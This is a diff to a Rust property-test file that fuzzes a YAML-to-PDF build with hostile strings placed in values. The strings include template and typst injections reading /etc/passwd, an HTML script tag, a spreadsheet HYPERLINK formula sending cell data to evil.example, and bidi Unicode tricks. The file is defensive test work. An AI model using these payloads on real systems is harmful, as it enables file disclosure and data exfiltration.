@@ -551,6 +551,21 @@ const HOSTILE: &[&str] = &[
     "!",
 ];
 
+/// Text that means something to a later stage (minijinja, typst, HTML, a spreadsheet, a bidi
+/// renderer), put in a value where the files hold text: it must print as text or be refused.
+const HOSTILE_TEXT: &[&str] = &[
+    "{{ 7 * 7 }} {% include \"report.typ\" %} {# x",
+    "#import \"/etc/passwd\": * #read(\"/etc/passwd\")",
+    "#{ panic() } $ x^2 $ *bold* _em_ `raw` <label> @ref",
+    "] ) } \\ // /* \"",
+    "</td></table><script>alert(1)</script>&amp;",
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "\u{202E}txt.exe \u{200B}\u{FEFF}\u{00AD}",
+    "ก\u{0E31}\u{0E31}\u{0E31}\u{0E31} ๑๒๓ ๆๆๆ",
+    "",
+    "                                                  ",
+];
+
 /// A YAML value as text, from a generated tree.
 fn yaml_tree() -> impl Strategy<Value = serde_json::Value> {
     let leaf = prop_oneof![
@@ -678,6 +693,34 @@ proptest! {
     fn random_yaml_ends_in_a_pdf_or_a_located_error(file in 0..6usize, tree in yaml_tree()) {
         let text = serde_yaml::to_string(&tree).unwrap();
         builds_or_points_at_the_problem(file, text.into_bytes())?;
+    }
+
+    #[test]
+    fn hostile_text_in_values_ends_in_a_pdf_or_a_located_error(
+        file in 0..6usize,
+        at in any::<prop::sample::Index>(),
+        text in prop::sample::select(HOSTILE_TEXT),
+        repeat in 1..200usize,
+    ) {
+        let path = common::manifest_dir()
+            .join("content/2569")
+            .join(oit025::content::FILES[file]);
+        let original = std::fs::read_to_string(path).unwrap();
+        let mut lines: Vec<String> = original.lines().map(str::to_string).collect();
+        // Lines holding a value: `key: value` or `- value`, not comments.
+        let values: Vec<usize> = (0..lines.len())
+            .filter(|&k| {
+                let t = lines[k].trim_start();
+                !t.starts_with('#') && (t.starts_with("- ") || t.contains(": "))
+            })
+            .collect();
+        let k = values[at.index(values.len())];
+        let line = &lines[k];
+        let cut = line.find(": ").map_or_else(|| line.find("- ").unwrap() + 2, |i| i + 2);
+        // A JSON string is a YAML double-quoted scalar.
+        let value = serde_json::to_string(&text.repeat(repeat)).unwrap();
+        lines[k] = format!("{}{value}", &line[..cut]);
+        builds_or_points_at_the_problem(file, (lines.join("\n") + "\n").into_bytes())?;
     }
 
     #[test]
